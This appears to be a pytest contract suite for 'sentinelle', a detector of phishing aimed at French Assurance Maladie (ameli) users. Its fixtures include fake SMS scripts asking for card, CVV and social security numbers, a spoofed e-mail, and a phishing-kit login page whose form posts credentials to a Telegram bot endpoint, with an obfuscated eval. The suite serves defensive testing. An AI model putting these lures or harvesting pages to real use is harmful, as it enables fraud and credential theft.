"""The detector contract, checked for every registered detector (scikit-learn's ``parametrize_with_checks``).

A new detector gets these checks for free: a stable ``area.what`` id, a docstring, UPPER_SNAKE signals each
with a weight and an explanation in every language, no exception and only declared signals on empty or odd
messages, deterministic output, and explanations that render with every placeholder filled.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest

import sentinelle
from sentinelle import Engine, Kind, Verdict
from sentinelle.attribution import attribute
from sentinelle.detectors import registered
from sentinelle.detectors.base import Context
from sentinelle.extract.urls import make_link
from sentinelle.model import Evidence, LinkSource, Message, PhoneNumber, PhoneRole, Sender
from sentinelle.resources import LANGS

DETECTORS = registered()
ID_FORM = re.compile(r"^[a-z][a-z0-9_]*\.[a-z][a-z0-9_]*$")
SIGNAL_FORM = re.compile(r"^[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*$")
PLACEHOLDER = re.compile(r"\{[A-Za-z_][A-Za-z0-9_]*\}")
TEXT_KINDS = (Kind.SMS, Kind.CALL, Kind.VOICEMAIL, Kind.URL, Kind.PHONE)

# Messages that, together, make every declared signal and every composite appear (checked below, so a new
# signal without a sample here fails loudly instead of going untested).
SAMPLES: list[tuple[str, dict[str, str]]] = [
    ("AMELI : votre carte vitale arrive à expiration, mettez-la à jour sur ameli-vital.fr", {}),
    ("a\u200bme\u200bli : votre carte vitale arrive à expiration", {}),
    ("\u0430meli : merci de valider votre remboursement sous 24h", {}),
    ("AMELI : voir https://bit.ly/3xYz et http://192.168.10.5/x et http://xn--amli-cpa.fr", {}),
    (
        "AMELI : voir https://ameli.fr@evil.com/login et hxxp://example[.]com/a et https://remboursement.xyz/",
        {},
    ),
    ("AMELI : data:text/html;base64,PHNjcmlwdD4=", {}),
    ("Ameli : votre attestation est disponible sur ameli.fr", {"sender": "38663"}),
    ("Ameli : votre attestation est disponible.", {"sender": "06 12 34 56 78"}),
    ("Bonjour, ici votre CPAM, rappelez-nous au 08 99 23 45 67 ou au 01 62 12 34 56.", {"kind": "voicemail"}),
    ("CPAM : rappelez votre conseiller au 32 17 ou au 06 12 34 56 78", {}),
    ("Bonjour, ici votre CPAM, pouvez-vous me donner votre RIB ?", {"kind": "call", "caller_id": "3646"}),
    (
        "Bonjour, enquête de satisfaction de l'Assurance Maladie.",
        {"kind": "call", "caller_id": "05 53 35 62 37"},
    ),
    ("Ameli : pour toute question, rappelez le 3646.", {"kind": "voicemail"}),
    ("3646", {"kind": "phone"}),
    ("3008", {"kind": "phone"}),
    ("01 84 60 22 17", {"kind": "phone"}),
    (
        "Assurance Maladie : indiquez le numéro de votre carte bancaire, le cryptogramme et le code reçu par SMS.",
        {},
    ),
    ("Assurance Maladie : envoyez identifiant et mot de passe, pièce d'identité, justificatif de domicile.", {}),
    ("Assurance Maladie : confirmez votre numéro de sécurité sociale et vos antécédents médicaux.", {}),
    ("Ameli : des frais d'envoi de 1,99 € sont à régler sur ameli-envoi.com", {}),
    ("Ameli : votre nouvelle carte vitale est disponible, mettez à jour vos informations.", {}),
    ("Ameli : votre compte a été suspendu, merci de rappeler votre conseiller.", {}),
    ("Ameli : un conseiller peut vous aider à créer votre espace santé.", {}),
    ("Ameli : votre attestation de droits est disponible dans votre compte ameli.", {}),
    ("Congratulations, you have won! Unusual sign-in: verify your account at https://promo-x.firebaseapp.com/", {}),
    # Learned text model (TEXT_MODEL_SCAM_LIKE): scam wording without any profiled organisation or link.
    (
        "Dear customer, your account has been suspended due to unusual activity. Click here to verify your "
        "identity and restore access within 24 hours or your account will be permanently closed.",
        {"kind": "email"},
    ),
    (
        "From: Lucky Draw <noreply@promo-123.firebaseapp.com>\nTo: a@example.org\nSubject: You won\n"
        "Content-Type: text/plain; charset=utf-8\n\nClaim your prize today.\n",
        {},
    ),
    # E-mails (raw RFC 5322 text is recognised as an e-mail by its headers).
    (
        "From: Service clients Ameli <remboursement@ameli-assure.com>\n"
        "To: victime@example.fr\n"
        "Reply-To: collecte@gmail.com\n"
        "Subject: REMBOURSEMENT : DOSSIER AML-591783021\n"
        "MIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=b1\n\n"
        "--b1\nContent-Type: text/html; charset=utf-8\n\n"
        '<p>Cliquez sur <a href="https://ameli-rembourse.com/login">https://www.ameli.fr/assure</a> '
        'ou sur <a href="https://clicks.example.net/t">www.example.org</a>.</p>'
        '<img src="https://cdn.example.net/ameli-logo.png" alt="logo ameli">'
        '<form action="https://collect.example.net/post">RIB <input name="iban"> '
        'cryptogramme <input name="cvv"></form>\n'
        "--b1\nContent-Type: application/octet-stream; name=facture.pdf\n"
        "Content-Disposition: attachment; filename=facture.pdf\nContent-Transfer-Encoding: base64\n\n"
        "PGh0bWw+PGZvcm0+PC9mb3JtPjwvaHRtbD4=\n"
        "--b1\nContent-Type: application/octet-stream; name=outil.exe\n"
        "Content-Disposition: attachment; filename=outil.exe\nContent-Transfer-Encoding: base64\n\n"
        "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=\n"
        "--b1\nContent-Type: application/zip; name=docs.zip\n"
        "Content-Disposition: attachment; filename=docs.zip\nContent-Transfer-Encoding: base64\n\n"
        "UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAAAAAAA\n"
        "--b1--\n",
        {},
    ),
    (
        "Authentication-Results: mx.example.fr; dkim=pass header.d=info.ameli.fr; "
        "dmarc=pass header.from=info.ameli.fr\n"
        "From: Votre Assurance Maladie <assurance-maladie@info.ameli.fr>\n"
        "To: assure@example.fr\nSubject: Information de paiement\n"
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Vous avez reçu un nouveau message de l'Assurance Maladie. Pour le consulter : https://www.ameli.fr/\n",
        {},
    ),
    (
        "Authentication-Results: mx.example.fr; spf=fail smtp.mailfrom=evil.example; dmarc=fail header.from=ameli.fr\n"
        "Return-Path: <bounce@evil.example>\n"
        "From: Assurance Maladie <securite@ameli.fr>\nTo: assure@example.fr\nSubject: Remboursement\n"
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Votre remboursement est en attente, cliquez sur https://remboursement-secu.example.net/\n",
        {},
    ),
    ("Votre remboursement de 48,70 EUR vous attend : https://www.ameIi.fr/remboursement", {}),
    # --- scam scripts without a profiled organisation (screenshots issue): parcels, fines, bank alerts...
    (
        "Votre colis ne rentrait pas dans la boîte aux lettres. Contravention impayée. Votre carte bancaire a été "
        "bloquée. Réclamez votre formation avant expiration de vos droits. Envoie-moi un message sur WhatsApp.",
        {},
    ),
    # --- web pages (issue 9): a kit login page, a fake carte Vitale order page, the genuine login page.
    (
        '<!doctype html><html><head><title>Connexion à mon compte ameli</title>'
        '<link rel="icon" href="https://www.ameli.fr/favicon.ico"></head><body>'
        '<img src="https://assure.ameli.fr/img/logo-ameli.png" alt="ameli"><h1>Mon compte ameli</h1>'
        '<form action="https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage">'
        '<input name="nir" placeholder="Numéro de sécurité sociale"><input type="password" name="pw"></form>'
        '<div style="display:none"><form action="mail.php"><input name="cc" placeholder="Numéro de carte">'
        '<input name="cvv" placeholder="Cryptogramme"></form></div><p>Paiement 100% sécurisé</p>'
        '<script>if (navigator.webdriver) {} eval(atob("YWxlcnQoMSk="))</script></body></html>',
        {"kind": "webpage", "url": "https://ameli-compte-securise.com/connexion"},
    ),
    (
        "<html><head><title>Commande de carte Vitale - Assurance Maladie</title></head><body>"
        "<h1>Commandez votre nouvelle carte Vitale</h1><form action='https://collecte.example.net/upload'>"
        "<label for=id>Pièce d'identité (recto verso)</label><input type=file id=id name=piece>"
        "<label for=dom>Justificatif de domicile</label><input type=file id=dom name=facture>"
        "<p>Frais d'envoi : 1,99 €</p><input name=cardnumber autocomplete=cc-number>"
        "<input name=exp autocomplete=cc-exp></form></body></html>",
        {"kind": "webpage", "url": "https://commande-vitale.example.org/"},
    ),
    (
        "<html><head><title>Connexion à mon compte ameli</title></head><body><h1>Mon compte ameli</h1>"
        "<form action='/PortailAS/appmanager/PortailAS/assure' method=post>"
        "<input name=nir placeholder='Numéro de sécurité sociale'><input type=password name=pw></form></body></html>",
        {"kind": "webpage", "url": "https://assure.ameli.fr/PortailAS/appmanager/PortailAS/assure"},
    ),
]


@functools.cache
def sample_verdicts(lang: str) -> tuple[Verdict, ...]:
    return tuple(sentinelle.analyze(text, lang=lang, **options) for text, options in SAMPLES)  # type: ignore[arg-type]


@functools.cache
def _huge_link_list() -> tuple[Any, ...]:
    return tuple(
        make_link(f"https://ameli-{i}.cpam{i}.example{i % 7}.xyz/p?{i}", LinkSource.TEXT, location="body:l.1")
        for i in range(3000)
    )


def _odd_messages(engine: Engine, kinds: frozenset[Kind]) -> Iterator[tuple[str, Message]]:
    """Empty, blank, binary-ish, huge and malformed messages of every kind the detector applies to."""
    binary = bytes(range(256)) * 8 + "ameli \xff 0899234567 http://x".encode("latin-1")
    for kind in sorted(kinds):
        if kind in TEXT_KINDS:
            yield f"{kind}:empty", engine.parse("", kind=kind)
            yield f"{kind}:spaces", engine.parse("   \n\t   \n", kind=kind)
            yield f"{kind}:binary", engine.parse(binary, kind=kind)
            yield f"{kind}:bidi-only", engine.parse("\u202e\u202d\u200b\u2066", kind=kind)
            yield f"{kind}:combining", engine.parse("a\u0301" * 2000 + " 06 " * 50, kind=kind)
            yield f"{kind}:punctuation", engine.parse(". : // [.] hxxp:// @ +33 ( ) 0 " * 200, kind=kind)
        yield f"{kind}:bare-empty", Message(kind=kind, text="")
        yield f"{kind}:huge-link-list", Message(kind=kind, text="ameli " * 10, links=_huge_link_list())
        yield (
            f"{kind}:odd-phones",
            Message(
                kind=kind,
                text="x",
                sender=Sender(number=""),
                phones=tuple(
                    PhoneNumber(raw=raw, normalized=norm, is_short=not norm.startswith("+"), role=role)
                    for raw, norm, role in [
                        ("", "", PhoneRole.CALLBACK),
                        ("x", "+", PhoneRole.CALLER_ID),
                        ("06", "+336", PhoneRole.SENDER),
                        ("9" * 30, "9" * 30, PhoneRole.INPUT),
                    ]
                ),
            ),
        )


def _run(det: Any, msg: Message, engine: Engine, profile: str | None, lang: str = "fr") -> list[Evidence]:
    ctx = Context(msg, engine.knowledge, lang=lang, forced_profile=profile, attribute=attribute)
    return list(det.detect(msg, ctx))


# ---------------------------------------------------------------------------------------------- the checks
Check = Callable[[type, Engine], None]
CHECKS: list[Check] = []


def check(fn: Check) -> Check:
    CHECKS.append(fn)
    return fn


@check
def check_id_is_unique_area_what(cls: type, engine: Engine) -> None:
    assert ID_FORM.match(cls.id), cls.id
    assert DETECTORS[cls.id] is cls
    assert [other.id for other in DETECTORS.values()].count(cls.id) == 1


@check
def check_docstrings(cls: type, engine: Engine) -> None:
    assert cls.__doc__
    assert cls.__doc__.strip()
    module = __import__(cls.__module__, fromlist=["_"])
    assert module.__doc__
    assert module.__doc__.strip()


@check
def check_applies_to_kinds(cls: type, engine: Engine) -> None:
    assert cls.applies_to
    assert all(isinstance(k, Kind) for k in cls.applies_to)


@check
def check_signals_are_upper_snake_and_described(cls: type, engine: Engine) -> None:
    assert cls.signals
    for code, meaning in cls.signals.items():
        assert SIGNAL_FORM.match(code), code
        assert isinstance(meaning, str), code
        assert meaning.strip(), code


@check
def check_signals_are_owned_by_one_detector(cls: type, engine: Engine) -> None:
    for other in DETECTORS.values():
        if other is not cls:
            assert not set(cls.signals) & set(other.signals), other.id


@check
def check_signals_have_weights(cls: type, engine: Engine) -> None:
    weights = engine.knowledge.weights
    for code in cls.signals:
        assert code in weights.signals, f"weights.toml has no weight for {code}"
        assert weights.signals[code].group in weights.groups


@check
def check_signals_have_templates(cls: type, engine: Engine) -> None:
    for lang in LANGS:
        templates = engine.knowledge.texts[lang].signals
        for code in cls.signals:
            assert templates.get(code, "").strip(), f"messages_{lang}.toml has no template for {code}"


@check
def check_odd_messages(cls: type, engine: Engine) -> None:
    det = cls()
    for name, msg in _odd_messages(engine, cls.applies_to):
        for profile in (None, "assurance_maladie"):
            produced = _run(det, msg, engine, profile)
            for ev in produced:
                assert ev.signal in cls.signals, (name, ev.signal)
                assert ev.detector == cls.id, (name, ev.detector)
                assert all(isinstance(o, str) for o in ev.observed), (name, ev.observed)


@check
def check_deterministic(cls: type, engine: Engine) -> None:
    det = cls()
    messages = [engine.parse(text, **options) for text, options in SAMPLES]
    messages += [msg for _, msg in _odd_messages(engine, frozenset({Kind.SMS}))]
    for msg in messages:
        if msg.kind not in cls.applies_to:
            continue
        for lang in LANGS:
            first = _run(det, msg, engine, None, lang)
            assert _run(det, msg, engine, None, lang) == first
            assert _run(cls(), msg, engine, None, lang) == first


@check
def check_every_signal_is_exercised(cls: type, engine: Engine) -> None:
    seen = {ev.signal for v in sample_verdicts("fr") for ev in v.evidence if ev.detector == cls.id}
    missing = set(cls.signals) - seen
    assert not missing, f"add a message to SAMPLES that makes {sorted(missing)} appear"


@check
def check_explanations_render(cls: type, engine: Engine) -> None:
    for lang in LANGS:
        for v in sample_verdicts(lang):
            assert v.failures == ()
            for ev in v.evidence:
                if ev.detector != cls.id:
                    continue
                text = ev.explanation
                assert text.strip(), (lang, ev.signal)
                assert text != ev.signal, f"{ev.signal} rendered as its bare code in {lang}"
                assert not PLACEHOLDER.search(text), (lang, ev.signal, text)
                assert "None" not in text, (lang, ev.signal, text)


@pytest.mark.parametrize(
    ("detector_id", "check_fn"),
    [(d, c) for d in sorted(DETECTORS) for c in CHECKS],
    ids=[f"{d}-{c.__name__}" for d in sorted(DETECTORS) for c in CHECKS],
)
def test_detector_contract(engine: Engine, detector_id: str, check_fn: Check) -> None:
    check_fn(DETECTORS[detector_id], engine)


# ------------------------------------------------------------------------------- engine-level contract
def test_there_are_detectors() -> None:
    assert len(DETECTORS) >= 9


def test_composites_are_exercised_and_render() -> None:
    weights = sentinelle.default_engine().knowledge.weights
    for lang in LANGS:
        produced = {ev.signal: ev for v in sample_verdicts(lang) for ev in v.evidence if ev.detector == "composite"}
        assert {c.code for c in weights.composites} <= set(produced)
        for code, ev in produced.items():
            assert ev.explanation.strip(), (lang, code)
            assert ev.explanation != code, (lang, code)
            assert not PLACEHOLDER.search(ev.explanation), (lang, code, ev.explanation)


def test_languages_give_different_explanations() -> None:
    for fr, en in zip(sample_verdicts("fr"), sample_verdicts("en"), strict=True):
        assert [e.signal for e in fr.evidence] == [e.signal for e in en.evidence]
        for a, b in zip(fr.evidence, en.evidence, strict=True):
            assert a.explanation != b.explanation, a.signal


def test_engine_output_is_deterministic() -> None:
    engine = Engine()
    for text, options in SAMPLES:
        first = engine.analyze(text, **options).to_dict()  # type: ignore[arg-type]
        assert engine.analyze(text, **options).to_dict() == first  # type: ignore[arg-type]
        assert sentinelle.analyze(text, **options).to_dict() == first  # type: ignore[arg-type]


def test_a_crashing_detector_is_recorded_not_raised() -> None:
    class Broken:
        """Raises on every message."""

        id = "test.broken"
        applies_to = frozenset(Kind)
        signals: dict[str, str] = {}

        def detect(self, msg: Message, ctx: Context) -> list[Evidence]:
            raise ValueError("boom")

    v = Engine(detectors=[Broken(), DETECTORS["claims.organisation"]()]).analyze("AMELI : bonjour")
    assert [(f.detector, f.error_type) for f in v.failures] == [("test.broken", "ValueError")]
    assert "CLAIMS_ORGANISATION" in v.signals


def test_an_undeclared_signal_is_refused() -> None:
    class Liar:
        """Emits a signal it did not declare."""

        id = "test.liar"
        applies_to = frozenset(Kind)
        signals = {"URGENCY": "declared"}

        def detect(self, msg: Message, ctx: Context) -> list[Evidence]:
            return [Evidence(self.id, "NOT_DECLARED")]

    v = Engine(detectors=[Liar()]).analyze("AMELI : bonjour")
    assert "NOT_DECLARED" not in v.signals
    assert [(f.detector, f.error_type) for f in v.failures] == [("test.liar", "UndeclaredSignal")]


def test_a_detector_without_weights_is_a_data_error() -> None:
    class Unweighted:
        """Declares a signal that has no weight."""

        id = "test.unweighted"
        applies_to = frozenset(Kind)
        signals = {"NO_WEIGHT_FOR_THIS": "x"}

        def detect(self, msg: Message, ctx: Context) -> list[Evidence]:
            return []

    with pytest.raises(sentinelle.DataError, match="NO_WEIGHT_FOR_THIS"):
        Engine(detectors=[Unweighted()])
